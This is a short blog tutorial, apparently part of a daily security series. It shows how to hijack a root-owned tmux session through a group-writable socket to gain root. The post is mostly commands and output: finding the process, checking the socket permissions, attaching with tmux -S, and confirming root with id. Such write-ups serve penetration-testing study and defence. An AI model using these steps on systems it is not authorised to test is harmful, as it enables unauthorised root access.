Day 69: Hijacking Tmux Sessions 2 Priv. Esc.

Diddy Doodat
1 min readMar 9, 2019



Tmux is a terminal multiplexer for Unix-like operating systems. It allows multiple terminal sessions to be accessed simultaneously in a single window. It is useful for running more than one command-line program at the same time

Tmux can be prone to a local privilege-escalation vulnerability because it fails to properly drop group permissions obtained through setGID.

There was a great advisory some years back where you could just run -S with anything…

Using Tmux to Priv. Esc.

Look for root /usr/bin/tmux running process that allows our group to rw in order to hijack root shell

Check for process…

user@box:/# ps -u root
/usr/bin/tmux -S /.devs/dev_sess

Check we canread/write…

user@box:/# ls -la /.devs/dev_sess
srw-rw---- 1 root usergroup

Now do the same command you see running in your user terminal that has group membership allowing rw to attach to the session…

user@box:/# tmux -S /.devs/dev_sessroot@box:/# id
uid=0(root)gid=0(root) groups=0(root)



Diddy Doodat